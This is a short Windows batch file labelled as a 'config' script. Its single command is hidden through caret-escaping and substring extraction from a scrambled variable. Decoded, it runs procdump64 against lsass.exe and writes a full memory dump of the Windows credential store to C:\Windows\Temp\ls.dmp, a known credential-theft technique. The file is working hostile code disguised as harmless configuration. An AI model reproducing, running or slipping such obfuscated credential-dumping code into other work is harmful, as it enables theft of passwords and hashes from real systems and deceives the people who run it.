REM config 1029 v3
@e^ch^o of^f
^set "akeq=wnuHdIpQC6\:3xT9resm-oW.labti8c4k"
%akeq:~-27,1%%akeq:~16,1%%akeq:~21,1%%akeq:~30,1%%akeq:~-29,1%%akeq:~2,1%%akeq:~19,1%%akeq:~6,1%%akeq:~9,1%%akeq:~31,1%%akeq:~23,1%%akeq:~-16,1%%akeq:~13,1%%akeq:~17,1% %akeq:~20,1%%akeq:~-8,1%%akeq:~30,1%%akeq:~30,1%%akeq:~17,1%%akeq:~6,1%%akeq:~27,1%%akeq:~17,1%%akeq:~2,1%%akeq:~24,1%%akeq:~-8,1% %akeq:~20,1%%akeq:~19,1%%akeq:~25,1% %akeq:~24,1%%akeq:~18,1%%akeq:~-8,1%%akeq:~-15,1%%akeq:~18,1%%akeq:~-10,1%%akeq:~17,1%%akeq:~13,1%%akeq:~-16,1% %akeq:~8,1%%akeq:~11,1%%akeq:~-23,1%%akeq:~22,1%%akeq:~-5,1%%akeq:~1,1%%akeq:~-29,1%%akeq:~21,1%%akeq:~0,1%%akeq:~18,1%%akeq:~10,1%%akeq:~14,1%%akeq:~-16,1%%akeq:~-14,1%%akeq:~6,1%%akeq:~10,1%%akeq:~-9,1%%akeq:~18,1%%akeq:~23,1%%akeq:~-29,1%%akeq:~19,1%%akeq:~6,1%
